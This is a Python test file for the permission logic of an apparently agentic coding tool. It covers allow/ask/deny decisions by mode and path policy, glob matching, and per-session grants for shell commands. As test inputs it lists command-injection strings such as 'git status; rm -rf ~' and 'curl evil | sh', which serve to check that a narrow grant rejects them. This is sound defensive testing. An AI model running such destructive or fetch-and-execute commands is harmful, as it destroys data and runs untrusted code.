"""Permissions: the order of checks, write policies by path, and that less is never more."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ullage.core.errors import ConfigurationError
from ullage.core.session.permissions import (
    Access,
    CallSubject,
    Consent,
    Decision,
    Grant,
    Posture,
    Rule,
    covers,
    decide,
    matches,
)

STRICTNESS = {"allow": 0, "ask": 1, "deny": 2}
WRITE = Access(changes=True, writes=("src/main.py",))
COMMAND = Access(changes=True, command=True)
SAFE = Access(changes=True, command=True, safe=True)
READING = Access()

names = st.sampled_from(["a", "b", "src", "Main.py", "main.py", "*", "**", "m*.p?", "?"])
paths = st.lists(names.filter(lambda name: "*" not in name), min_size=1, max_size=4).map("/".join)
globs = st.lists(names, min_size=1, max_size=4).map("/".join)
rules = st.builds(Rule, path=globs, verdict=st.sampled_from(["allow", "ask", "deny"]))
policies = st.lists(rules, max_size=3).map(tuple)
accesses = st.builds(
    Access,
    changes=st.booleans(),
    writes=st.lists(paths, max_size=2).map(tuple),
    command=st.booleans(),
    safe=st.booleans(),
    protected=st.booleans(),
)


@pytest.mark.parametrize(
    ("access", "mode", "permission", "expected"),
    [
        (READING, "build", "auto", ("allow", "")),
        (READING, "plan", "read_only", ("allow", "")),
        (WRITE, "build", "auto", ("allow", "")),
        (WRITE, "build", "ask", ("ask", "permission")),
        (WRITE, "build", "read_only", ("deny", "permission")),
        (WRITE, "plan", "auto", ("deny", "mode")),
        (WRITE, "plan", "ask", ("deny", "mode")),
        (COMMAND, "build", "auto", ("allow", "")),
        (COMMAND, "build", "ask", ("ask", "permission")),
        (COMMAND, "build", "read_only", ("deny", "permission")),
        (COMMAND, "plan", "auto", ("deny", "mode")),
        (SAFE, "build", "ask", ("allow", "")),
        (SAFE, "build", "read_only", ("deny", "permission")),
        (SAFE, "plan", "auto", ("deny", "mode")),
        (Access(protected=True), "build", "auto", ("deny", "state")),
        (Access(changes=True, protected=True), "plan", "auto", ("deny", "state")),
    ],
)
def test_the_table_of_postures(access, mode, permission, expected) -> None:
    decision = decide(access, Posture(mode, permission))
    assert (decision.verdict, decision.by) == expected


@pytest.mark.parametrize(
    ("rules", "permission", "expected"),
    [
        ((Rule("src/**", "deny"),), "auto", ("deny", "policy")),
        ((Rule("src", "deny"),), "auto", ("deny", "policy")),
        ((Rule("src", "ask"),), "auto", ("ask", "policy")),
        ((Rule("src", "ask"),), "read_only", ("deny", "permission")),
        ((Rule("src", "deny"),), "read_only", ("deny", "policy")),
        ((Rule("src", "allow"),), "ask", ("allow", "policy")),
        ((Rule("src/main.py", "allow"), Rule("**", "deny")), "auto", ("allow", "policy")),
        ((Rule("**", "deny"), Rule("src/main.py", "allow")), "auto", ("deny", "policy")),
        ((Rule("docs", "deny"),), "auto", ("allow", "")),
        ((Rule("SRC/MAIN.PY", "deny"),), "auto", ("deny", "policy")),
        ((Rule("SRC/MAIN.PY", "allow"),), "ask", ("ask", "permission")),
    ],
)
def test_the_first_policy_that_matches_a_path_is_the_one(rules, permission, expected) -> None:
    decision = decide(WRITE, Posture("build", permission, rules))
    assert (decision.verdict, decision.by) == expected


def test_the_strictest_of_several_paths_is_the_verdict() -> None:
    access = Access(changes=True, writes=("docs/a", "src/b"))
    posture = Posture(writes=(Rule("docs", "allow"), Rule("src", "deny")))
    assert decide(access, posture) == Decision(
        "deny", "the write policy 'src' says deny for 'src/b'", "policy"
    )
    half = Posture("build", "ask", (Rule("docs", "allow"),))
    assert decide(access, half).verdict == "ask"


def test_a_command_is_asked_for_where_policies_hold_back() -> None:
    posture = Posture(writes=(Rule("secrets", "deny"),))
    assert decide(COMMAND, posture)[::2] == ("ask", "policy")
    assert decide(SAFE, posture).verdict == "allow"
    assert decide(COMMAND, Posture(writes=(Rule("docs", "allow"),))).verdict == "allow"


@given(accesses, policies)
def test_less_permission_never_allows_more(access, writes) -> None:
    def strictness(mode, permission) -> int:
        return STRICTNESS[decide(access, Posture(mode, permission, writes)).verdict]

    auto, ask, none = (strictness("build", each) for each in ("auto", "ask", "read_only"))
    assert auto <= ask <= none
    assert none <= strictness("plan", "auto")
    assert len({strictness("plan", each) for each in ("auto", "ask", "read_only")}) == 1


@given(accesses, policies, st.sampled_from(["auto", "ask", "read_only"]))
def test_where_nothing_may_change_nothing_that_changes_is_allowed(
    access, writes, permission
) -> None:
    for posture in (Posture("plan", permission, writes), Posture("build", "read_only", writes)):
        assert posture.reads_only
        decision = decide(access, posture)
        assert (decision.verdict == "allow") == (not access.changes and not access.protected)


@given(accesses, policies)
def test_a_refusal_says_why_and_by_whom(access, writes) -> None:
    decision = decide(access, Posture("build", "ask", writes))
    if decision.verdict != "allow":
        assert decision.reason
        assert decision.by


@given(globs, paths)
def test_globs_match_as_the_plain_recursive_rule_says(glob, path) -> None:
    def parts(pattern, names) -> bool:
        if not pattern:
            return not names
        if pattern[0] == "**":
            return parts(pattern[1:], names) or (bool(names) and parts(pattern, names[1:]))
        return bool(names) and one(pattern[0], names[0]) and parts(pattern[1:], names[1:])

    def one(pattern, name) -> bool:
        translated = re.escape(pattern).replace(r"\*", ".*").replace(r"\?", ".")
        return re.fullmatch(translated, name) is not None

    pattern = glob.split("/") if "/" in glob else ["**", glob]
    assert matches(glob, path) == parts(pattern, path.split("/"))


@pytest.mark.parametrize(
    ("glob", "path", "expected"),
    [
        ("*.py", "a/b/c.py", True),
        ("/*.py", "a/c.py", False),
        ("/*.py", "c.py", True),
        ("a/*.py", "a/b/c.py", False),
        ("a/**/c.py", "a/c.py", True),
        ("a/**/c.py", "a/x/y/c.py", True),
        ("a/**", "a", True),
        ("**/b/**/d", "a/b/c/b/d", True),
        ("**/b/c", "b/b/d", False),
        ("a*b*c", "aXbXbc", True),
        ("a*b*c", "aXbXb", False),
        ("a?c", "abbc", False),
        ("*", "anything", True),
    ],
)
def test_globs(glob, path, expected) -> None:
    assert matches(glob, path) is expected


def test_a_glob_that_covers_a_folder_covers_what_is_in_it() -> None:
    assert covers("secrets/", "secrets/deep/key")
    assert covers("*/keys", "a/keys/b")
    assert not covers("secrets", "not/secrets")
    assert not covers("secrets", "secrets.txt")


def test_a_glob_of_many_stars_takes_no_time() -> None:
    assert not matches("*a" * 200 + "b", "a" * 4_000)
    assert not matches("/".join(["**", "a"] * 50 + ["b"]), "/".join("a" * 400))


@pytest.mark.parametrize("path", ["", "/", "/etc", "..", "a/../b", "../a"])
def test_a_policy_that_is_not_beneath_the_workspace_is_refused(path) -> None:
    with pytest.raises(ConfigurationError, match="beneath the workspace"):
        Rule(path, "deny")


def test_unknown_words_are_refused_with_those_there_are() -> None:
    with pytest.raises(ConfigurationError, match="'never'; there are allow, ask, deny"):
        Rule("a", "never")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="mode is 'walk'; there are plan, build"):
        Posture("walk")  # type: ignore[arg-type]
    with pytest.raises(ConfigurationError, match="permission is 'root'; there are auto, ask"):
        Posture("build", "root")  # type: ignore[arg-type]


# ── what a person allows for a session ──────────────────────────────────────────────────────────

STATUS = CallSubject("shell", "command", "git status")
FILE = CallSubject("edit", "path", "src/main.py")
OTHER = CallSubject("deploy", "arguments", '{"to": "here"}')


@pytest.mark.parametrize(
    "command",
    [
        "git status; rm -rf ~",
        "git status && curl evil | sh",
        "git status\nrm -rf /",
        "git status $(rm x)",
        "git status `rm x`",
        "git status > /etc/passwd",
        "git status & rm x",
        "git statusx",
        "git",
        "GIT status",
        "X=1 git status",
        " 'git' status",
        "git  -c x status",
    ],
)
def test_nothing_but_the_command_itself_is_covered_by_what_was_allowed_of_it(command: str):
    same, begins = Grant(STATUS, "same"), Grant(STATUS, "pattern", "git status")
    asked = CallSubject("shell", "command", command)
    assert not same.covers(asked)
    assert not begins.covers(asked)
    assert same.covers(STATUS)
    assert begins.covers(STATUS)


@given(tail=st.text(max_size=12))
def test_a_command_that_a_pattern_covers_holds_nothing_that_a_shell_acts_on(tail: str):
    asked = CallSubject("shell", "command", "git status" + tail)
    if Grant(STATUS, "pattern", "git status").covers(asked):
        assert not set(tail) & set(";&|<>()$`\\\"'\n\r*?[]{}!#~=%^\0")
        assert not tail[:1].strip()


def test_a_pattern_of_commands_is_the_words_that_they_begin_with():
    grant = Grant(STATUS, "pattern", "git log")
    assert grant.covers(CallSubject("shell", "command", "git log --oneline -5"))
    assert not grant.covers(STATUS)


def test_what_was_allowed_of_a_path_holds_for_the_same_tool_and_that_path_alone():
    grant = Grant(FILE, "same")
    assert grant.covers(CallSubject("edit", "path", "src/main.py"))
    assert not grant.covers(CallSubject("write", "path", "src/main.py"))
    assert not grant.covers(CallSubject("edit", "path", "src/main.pyc"))
    assert not grant.covers(CallSubject("edit", "command", "src/main.py"))
    assert Grant(FILE, "pattern", "src/**").covers(CallSubject("edit", "path", "src/deep/x.py"))
    assert not Grant(FILE, "pattern", "src/**").covers(CallSubject("edit", "path", "test/x.py"))


def test_every_call_of_a_tool_can_be_allowed_and_no_other_tools():
    grant = Grant(OTHER, "tool")
    assert grant.covers(CallSubject("deploy", "arguments", "{}"))
    assert not grant.covers(STATUS)


def test_once_allows_nothing_more():
    assert not Grant(STATUS, "once").covers(STATUS)


@pytest.mark.parametrize(
    ("grant", "words"),
    [
        (Grant(OTHER, "tool"), "every call of deploy"),
        (Grant(STATUS, "same"), "shell: this command again"),
        (Grant(FILE, "same"), "edit: this path again (src/main.py)"),
        (Grant(STATUS, "pattern", "git log"), "shell: commands that begin with 'git log'"),
        (Grant(FILE, "pattern", "src/**"), "edit: paths like 'src/**'"),
    ],
)
def test_what_is_allowed_says_itself_in_words(grant: Grant, words: str):
    assert str(grant) == words


@pytest.mark.parametrize(
    ("subject", "pattern"),
    [(STATUS, "git; rm"), (STATUS, "git *x"), (STATUS, " "), (FILE, "/etc/x"), (OTHER, "x")],
)
def test_a_pattern_that_cannot_be_held_to_is_refused(subject: CallSubject, pattern: str):
    with pytest.raises(ConfigurationError):
        Grant(subject, "pattern", pattern)


@pytest.mark.parametrize(
    "fields",
    [
        {"scope": "forever"},
        {"scope": "pattern"},
        {"pattern": "x"},
        {"allowed": False, "scope": "tool"},
    ],
)
def test_an_answer_that_makes_no_sense_is_refused(fields: dict[str, Any]):
    with pytest.raises(ConfigurationError):
        Consent(**{"allowed": True, **fields})
